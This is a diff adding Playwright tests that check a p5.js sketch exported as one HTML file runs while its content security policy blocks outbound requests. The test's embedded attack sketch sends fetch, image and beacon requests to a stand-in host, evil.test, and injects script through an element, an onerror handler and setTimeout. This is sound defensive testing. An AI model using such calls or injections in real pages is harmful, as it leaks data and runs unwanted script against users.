@@ -263,6 +263,57 @@ test.describe('controls', () => {
     expect(requests.filter((url) => !/^(file|data|blob):/.test(url))).toEqual([]);
   });
 
+  for (const line of ['1', '2'] as const) {
+    test(`as one HTML file with p5.js ${line}.x that runs, and reaches nobody`, async ({
+      page,
+      context,
+    }) => {
+      await page.emulateMedia({ reducedMotion: 'reduce' });
+      const attack = `
+const told = [];
+addEventListener('securitypolicyviolation', (event) => told.push(event.effectiveDirective));
+const ask = async () => {
+  await fetch('https://evil.test/fetch').catch(() => told.push('refused'));
+  new Image().src = 'https://evil.test/image';
+  navigator.sendBeacon('https://evil.test/beacon', 'text');
+  const script = document.createElement('script');
+  script.textContent = 'window.slippedIn = true';
+  document.body.append(script);
+  document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.slippedIn = true">');
+  setTimeout('window.slippedIn = true');
+};
+ask();`;
+      const shared = await openShared(page, sketchWith(attack), line);
+      const saving = page.waitForEvent('download');
+      await shared.choose('Download as one HTML file');
+      const path = test.info().outputPath('attack.html');
+      await (await saving).saveAs(path);
+
+      const requests: string[] = [];
+      const fromDisk = await context.newPage();
+      const errors: string[] = [];
+      fromDisk.on('pageerror', (error) => errors.push(error.message));
+      await context.route('https://evil.test/**', (route) => {
+        requests.push(route.request().url());
+        return route.abort();
+      });
+      await fromDisk.goto(pathToFileURL(path).href);
+      const told = () => fromDisk.evaluate('told.join()');
+      for (const directive of [
+        ...['refused', 'img-src', 'connect-src', 'script-src-elem', 'script-src-attr'],
+        'script-src',
+      ]) {
+        await expect.poll(told).toMatch(new RegExp(`(^|,)${directive}(,|$)`));
+      }
+      await expect
+        .poll(() => fromDisk.evaluate(() => Number(Reflect.get(window, 'frameCount'))))
+        .toBeGreaterThan(2);
+      expect(await fromDisk.evaluate(() => 'slippedIn' in window)).toBe(false);
+      expect(requests).toEqual([]);
+      expect(errors).toEqual([]);
+    });
+  }
+
   test('a link that opens it in the playground, and waits there where motion is unwelcome', async ({
     page,
     context,
